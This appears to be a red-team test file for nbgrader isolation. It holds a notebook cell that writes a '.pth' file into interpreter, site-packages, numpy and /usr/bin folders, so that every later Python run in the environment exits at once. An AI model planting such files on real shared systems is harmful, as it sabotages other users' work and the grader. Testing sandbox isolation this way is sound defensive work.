"""Writes into the interpreter's folders, to be imported by the next student's process or by the grader.

Stock nbgrader: it works, for every later run of that environment.
"""

CELLS = {
    "extra first cell": """
import os
import pathlib
import site
import sys

import numpy

folders = [*sys.path, sys.prefix, sys.base_prefix, numpy.__path__[0], *site.getsitepackages(), "/usr/bin"]
for folder in filter(None, folders):
    if os.path.exists(folder) and os.stat(folder).st_dev == os.stat("/tmp").st_dev:
        continue  # below its own /tmp, which nobody else sees
    try:
        pathlib.Path(folder, "redteam-was-here.pth").write_text("import os; os._exit(1)")
        print("STOLEN", folder)
    except OSError as error:
        print(error)
"""
}
